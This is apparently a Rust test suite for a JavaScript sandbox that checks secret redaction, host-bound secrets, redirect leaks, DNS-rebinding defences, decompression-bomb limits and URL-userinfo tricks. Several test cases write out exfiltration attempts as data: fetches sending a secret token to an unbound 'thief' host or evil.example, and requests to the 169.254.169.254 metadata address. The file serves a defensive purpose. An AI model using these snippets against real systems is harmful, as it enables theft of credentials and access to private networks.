//! Secrets and what leaves: attacked by code that has grants, and by servers and name servers that lie.
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

mod common;

use common::{permit, plan};
use jarvis_protocol::{Egress, Execution, Grants};
use jarvis_sandbox::{Access, Executor, Resolver, SandboxConfig, Secret};
use serde_json::{Value, json};
use std::io::Write;
use std::net::IpAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio_util::sync::CancellationToken;

const VALUE: &str = "v4lue/of+the secret";

/// Remembers what it was sent, and answers as `answer` says for the request.
struct Server {
    host: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Server {
    async fn new(answer: impl Fn(&str) -> Vec<u8> + Send + Sync + 'static) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let host = listener.local_addr().unwrap().to_string();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (told, answer) = (Arc::clone(&seen), Arc::new(answer));
        tokio::spawn(async move {
            loop {
                let (mut socket, _) = listener.accept().await.unwrap();
                let (told, answer) = (Arc::clone(&told), Arc::clone(&answer));
                tokio::spawn(async move {
                    let mut request = Vec::new();
                    let mut buffer = [0; 4096];
                    while !request.windows(4).any(|part| part == b"\r\n\r\n") {
                        match socket.read(&mut buffer).await {
                            Ok(n) if n > 0 => request.extend_from_slice(&buffer[..n]),
                            _ => return,
                        }
                    }
                    let request = String::from_utf8_lossy(&request).into_owned();
                    told.lock().unwrap().push(request.clone());
                    let _ = socket.write_all(&answer(&request)).await;
                });
            }
        });
        Server { host, seen }
    }

    async fn echo() -> Server {
        Self::new(|request| reply("", request.as_bytes())).await
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

fn reply(headers: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n{headers}\r\n", body.len());
    [head.as_bytes(), body].concat()
}

fn moved(to: &str) -> Vec<u8> {
    format!("HTTP/1.1 302 Found\r\nlocation: {to}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n").into_bytes()
}

fn executor(bound: &[&str], resolver: Option<Resolver>) -> Executor {
    let config = SandboxConfig { worker_exe: env!("CARGO_BIN_EXE_jarvis-worker-test").into(), pool: 1, max_workers: 4 };
    let hosts: Vec<String> = bound.iter().map(|host| (*host).to_owned()).collect();
    let find = move |name: &str| match name {
        "TOKEN" => Ok(Some(Secret { value: VALUE.to_owned(), hosts: hosts.clone() })),
        "BROKEN" => Err("others can read the store".to_owned()),
        _ => Ok(None),
    };
    Executor::new(config, Access { secrets: Some(Arc::new(find)), resolver, ..Access::default() })
}

async fn run(executor: &Executor, body: &str, network: &[&str], secrets: &[&str]) -> Execution {
    let mut plan = plan(&format!("export default async function run(args, ctx) {{ {body} }}"), json!({}));
    let own = |list: &[&str]| list.iter().map(|i| (*i).to_owned()).collect();
    plan.grants = Grants { network: own(network), secrets: own(secrets), ..Grants::default() };
    let done = executor.run(permit(plan), &CancellationToken::new()).await.unwrap();
    // Whatever else a test is about.
    let whole = serde_json::to_string(&done).unwrap();
    for form in [VALUE, "v4lue%2Fof", "djRsdWUvb2YrdGhlIHNlY3JldA"] {
        assert!(!whole.contains(form), "{whole}");
    }
    done
}

fn message(done: &Execution) -> String {
    done.error.as_ref().map(|e| e.to_string()).unwrap_or_default()
}

fn text(done: &Execution) -> String {
    done.result.as_ref().and_then(Value::as_str).unwrap_or_else(|| panic!("{}", message(done))).to_owned()
}

#[tokio::test]
async fn a_secret_reaches_its_host_and_comes_back_redacted() {
    let server = Server::echo().await;
    let executor = executor(&[&server.host], None);
    let body = format!(
        "const t = await ctx.secret('TOKEN'); const r = await ctx.fetch('http://{}/x?k=' + encodeURIComponent(t) + '&n=1', {{ headers: {{ Authorization: `Bearer ${{t}}`, 'X-Basic': 'no' }} }}); return await r.text();",
        server.host
    );
    let back = text(&run(&executor, &body, &[&server.host], &["TOKEN"]).await);
    let seen = server.seen().pop().unwrap();
    assert!(
        seen.contains("GET /x?k=v4lue%2Fof%2Bthe%20secret&n=1 ") && seen.contains(&format!("Bearer {VALUE}")),
        "{seen}"
    );
    assert!(back.contains("/x?k=[secret TOKEN]&n=1 ") && back.contains("Bearer [secret TOKEN]"), "{back}");

    let body = format!(
        "const t = await ctx.secret('TOKEN'); return await (await fetch('http://{}/', {{ headers: {{ Authorization: 'Basic ' + btoa('me:' + t) }} }})).text();",
        server.host
    );
    let back = text(&run(&executor, &body, &[&server.host], &["TOKEN"]).await);
    let seen = server.seen().pop().unwrap();
    assert!(seen.contains("Basic bWU6djRsdWUvb2YrdGhlIHNlY3JldA=="), "{seen}");
    assert!(back.contains("[secret TOKEN]") && !back.contains("djRsdWUv"), "{back}");
}

#[tokio::test]
async fn the_code_holds_a_placeholder_and_never_the_value() {
    let executor = executor(&["a.example"], None);
    let body = "const t = await ctx.secret('TOKEN'); console.log('using', t); return { same: t === await ctx.secret('TOKEN'), length: t.length, digits: [...t].map(c => c.charCodeAt(0)).join(' '), [t]: [t.split('').reverse().join('')] };";
    let done = run(&executor, body, &[], &["TOKEN"]).await;
    let result = done.result.unwrap();
    assert_eq!((&result["same"], &result["length"]), (&json!(true), &json!(46)));
    let held: String =
        result["digits"].as_str().unwrap().split(' ').map(|n| char::from(n.parse::<u8>().unwrap())).collect();
    assert!(held.starts_with("JARVIS_SECRET_") && !held.contains("v4lue"), "{held}");
    assert!(result.get("[secret TOKEN]").is_some(), "names of fields are redacted: {result}");
    assert_eq!(done.printed, "using [secret TOKEN]\n");
    let thrown = run(&executor, "throw new Error(await ctx.secret('TOKEN'))", &[], &["TOKEN"]).await;
    assert_eq!(message(&thrown), "Error: [secret TOKEN] (line 1)");
}

#[tokio::test]
async fn a_secret_that_is_not_granted_or_not_there_is_an_error_that_says_so() {
    let executor = executor(&["a.example"], None);
    for (name, secrets, says) in [
        ("TOKEN", &[][..], "is not granted (nothing is); declare it in grants.secrets"),
        ("TOKEN", &["OTHER"], "granted: OTHER"),
        ("OTHER", &["OTHER"], "jarvis secret set OTHER"),
        ("BROKEN", &["BROKEN"], "others can read the store"),
    ] {
        let done = run(&executor, &format!("return await ctx.secret('{name}')"), &[], secrets).await;
        assert!(message(&done).contains(says), "{name}: {}", message(&done));
    }
}

#[tokio::test]
async fn a_secret_is_sent_to_no_other_host_and_stands_nowhere_else() {
    let (bound, other) = (Server::echo().await, Server::echo().await);
    let executor = executor(&[&bound.host], None);
    for (fetch, says) in [
        ("fetch('http://OTHER/', { headers: { 'x-key': t } })", "is not bound to 127.0.0.1"),
        ("fetch('http://OTHER/?k=' + t)", "is not bound to 127.0.0.1"),
        ("fetch('http://BOUND/' + t)", "stands in the path"),
        ("fetch('http://BOUND/?' + t + '=1')", "name of a query parameter"),
        ("fetch('http://BOUND/#' + t)", "the fragment"),
        ("fetch('http://BOUND/', { method: 'POST', body: JSON.stringify({ t }) })", "stands in the body"),
        ("fetch('http://OTHER/', { method: 'POST', body: t })", "stands in the body"),
        ("fetch('http://BOUND/', { headers: { [t]: 'x' } })", "name of a header"),
        ("fetch(`http://${t}.example/`)", "stands in the host"),
        ("fetch(`http://me:${t}@BOUND/`)", "user or password"),
        ("fetch('http://nowhere.example/', { headers: { 'x-key': t } })", "is not granted"),
    ] {
        let fetch = fetch.replace("BOUND", &bound.host).replace("OTHER", &other.host);
        let body = format!("const t = await ctx.secret('TOKEN'); return await ({fetch}).then(r => r.text());");
        let done = run(&executor, &body, &[&bound.host, &other.host], &["TOKEN"]).await;
        assert!(message(&done).contains(says), "{fetch}: {} {:?}", message(&done), done.result);
    }
    assert!(bound.seen().is_empty() && other.seen().is_empty(), "nothing left: {:?} {:?}", bound.seen(), other.seen());
    // A host that the secret is bound to and that is not granted.
    let body = format!(
        "return (await fetch('http://{}/', {{ headers: {{ a: await ctx.secret('TOKEN') }} }})).status",
        bound.host
    );
    assert!(message(&run(&executor, &body, &[], &["TOKEN"]).await).contains("is not granted"));
}

#[tokio::test]
async fn a_redirect_takes_no_secret_to_another_host() {
    let thief = Server::echo().await;
    let there = thief.host.clone();
    // Puts what it was sent into the redirect.
    let bound = Server::new(move |request| {
        let query = request.split(' ').nth(1).and_then(|path| path.split_once('?')).map_or("", |(_, query)| query);
        moved(&format!("http://{there}/?{query}"))
    })
    .await;
    let executor = executor(&[&bound.host], None);
    let both = [bound.host.as_str(), thief.host.as_str()];
    for (place, headers, says) in [
        ("/?k=' + t + '", "{}", "is not bound"),
        ("/", "{ Accept: t }", "is not bound"),
        ("/", "{ 'User-Agent': 'x ' + t }", "is not bound"),
    ] {
        let body = format!(
            "const t = await ctx.secret('TOKEN'); return await (await fetch('http://{}{place}', {{ headers: {headers} }})).text();",
            bound.host
        );
        let done = run(&executor, &body, &both, &["TOKEN"]).await;
        assert!(message(&done).contains(says), "{place} {headers}: {} {:?}", message(&done), done.result);
    }
    assert!(thief.seen().is_empty(), "{:?}", thief.seen());
    // What may hold a key is left behind, and the request goes on without it, as browsers do it.
    let body = format!(
        "const t = await ctx.secret('TOKEN'); return await (await fetch('http://{}/', {{ headers: {{ Authorization: t, 'X-Key': t, Cookie: t }} }})).text();",
        bound.host
    );
    let back = text(&run(&executor, &body, &both, &["TOKEN"]).await).to_lowercase();
    assert!(back.starts_with("get /? ") && !back.contains("x-key") && !back.contains("cookie"), "{back}");
    assert!(bound.seen().iter().all(|request| request.contains("v4lue")));
}

#[tokio::test]
async fn what_left_and_came_back_is_counted_by_host() {
    let (server, other) = (Server::echo().await, Server::echo().await);
    let executor = executor(&[], None);
    let body = format!(
        "for (let i = 0; i < 3; i++) await (await fetch('http://{0}/', {{ method: 'POST', body: 'x'.repeat(1000) }})).text(); for (const u of ['http://evil.example/', 'http://169.254.169.254/', 'http://{1}/']) await fetch(u).catch(() => 0); return 1",
        server.host, other.host
    );
    let done = run(&executor, &body, &[&server.host, "*"], &[]).await;
    let of = |host: &str| done.egress.iter().find(|e| e.host == host).cloned().unwrap_or_default();
    let Egress { requests, sent_bytes, received_bytes, denied, .. } = of(&server.host);
    assert_eq!((requests, denied), (3, 0), "{:?}", done.egress);
    assert!((3000..6000).contains(&sent_bytes) && received_bytes > 300, "{:?}", done.egress);
    assert_eq!((of("169.254.169.254").denied, of("169.254.169.254").requests), (1, 0));
    assert_eq!((of(&other.host).denied, of(&other.host).requests), (1, 0));
    assert_eq!(run(&executor, "return 1", &["*"], &[]).await.egress, []);
}

#[tokio::test]
async fn a_name_server_that_lies_leads_nowhere_private() {
    let server = Server::echo().await;
    let port = server.host.rsplit_once(':').unwrap().1.to_owned();
    for (lie, says) in [
        (vec!["127.0.0.1"], "no public address"),
        (vec!["10.0.0.1", "::1"], "no public address"),
        (vec!["::ffff:127.0.0.1"], "no public address"),
        (vec!["64:ff9b::7f00:1"], "no public address"),
        (vec!["0.0.0.0"], "no public address"),
        (vec!["169.254.169.254"], "no public address"),
        (vec![], "no public address"),
    ] {
        let answer: Vec<IpAddr> = lie.iter().map(|text| text.parse().unwrap()).collect();
        let resolver: Resolver = Arc::new(move |_| {
            let answer = answer.clone();
            Box::pin(async move { Ok(answer) })
        });
        let executor = executor(&[], Some(resolver));
        let granted = format!("rebind.example:{port}");
        let body = format!("return (await fetch('http://{granted}/')).status");
        let done = run(&executor, &body, &[&granted, "*"], &[]).await;
        assert!(message(&done).contains(says), "{lie:?}: {}", message(&done));
    }
    assert!(server.seen().is_empty());
}

#[tokio::test]
async fn a_name_is_looked_up_once_for_a_request() {
    let server = Server::echo().await;
    let port = server.host.rsplit_once(':').unwrap().1.to_owned();
    let asked = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&asked);
    // Public the first time, and this machine ever after.
    let resolver: Resolver = Arc::new(move |_| {
        let first = count.fetch_add(1, Ordering::Relaxed) == 0;
        Box::pin(async move {
            Ok(vec![if first { "240.0.0.1" } else { "127.0.0.1" }.parse().unwrap(), "8.8.8.8".parse().unwrap()])
        })
    });
    let executor = executor(&[], Some(resolver));
    let granted = format!("rebind.example:{port}");
    let body = format!(
        "const out = []; for (let i = 0; i < 2; i++) out.push(await fetch('http://{granted}/', {{ signal: AbortSignal.timeout(400) }}).then(r => r.status, e => e.name)); return out"
    );
    let done = run(&executor, &body, &[&granted], &[]).await;
    let names = done.result.unwrap();
    assert!(names.as_array().unwrap().iter().all(|name| name.is_string()), "{names}");
    assert_eq!(asked.load(Ordering::Relaxed), 2, "once for each request");
    assert!(server.seen().is_empty(), "{:?}", server.seen());
}

#[tokio::test]
async fn packed_answers_are_unpacked_within_the_limit() {
    let server = Server::new(|request| {
        let body = if request.contains("/bomb") { vec![0; 200 << 20] } else { "水 water".as_bytes().to_vec() };
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(&body).unwrap();
        match request.contains("/brotli") {
            true => reply("content-encoding: br\r\n", b"\x0b"),
            false => reply("content-encoding: gzip\r\n", &encoder.finish().unwrap()),
        }
    })
    .await;
    let executor = executor(&[], None);
    let get = |path: &str| {
        format!(
            "return await (await fetch('http://{}{path}', {{ headers: {{ 'Accept-Encoding': 'gzip' }} }})).text();",
            server.host
        )
    };
    assert_eq!(text(&run(&executor, &get("/"), &[&server.host], &[]).await), "水 water");
    assert!(message(&run(&executor, &get("/bomb"), &[&server.host], &[]).await).contains("longer than"));
    assert!(
        message(&run(&executor, &get("/brotli"), &[&server.host], &[]).await).contains("packed its answer as `br`")
    );
    assert!(server.seen()[0].to_lowercase().contains("accept-encoding: identity"), "{:?}", server.seen());
}

#[tokio::test]
async fn users_in_urls_and_full_names_are_no_way_around() {
    let server = Server::echo().await;
    let port = server.host.rsplit_once(':').unwrap().1.to_owned();
    let executor = executor(&[], None);
    let granted = format!("localhost:{port}");
    for (url, says) in [
        (format!("http://me:pw@localhost:{port}/"), "Authorization header"),
        (format!("http://localhost:{port}@evil.example/"), "Authorization header"),
        (format!("http://127.0.0.1:{port}/"), "is not granted"),
        (format!("http://localhost.evil.example:{port}/"), "is not granted"),
    ] {
        let done = run(&executor, &format!("return (await fetch({url:?})).status"), &[&granted], &[]).await;
        assert!(message(&done).contains(says), "{url}: {}", message(&done));
    }
    let body = format!("return await (await fetch('http://LOCALHOST.:{port}/')).text()");
    let seen = text(&run(&executor, &body, &[&granted], &[]).await).to_lowercase();
    assert!(seen.contains(&format!("host: localhost:{port}")), "{seen}");
}
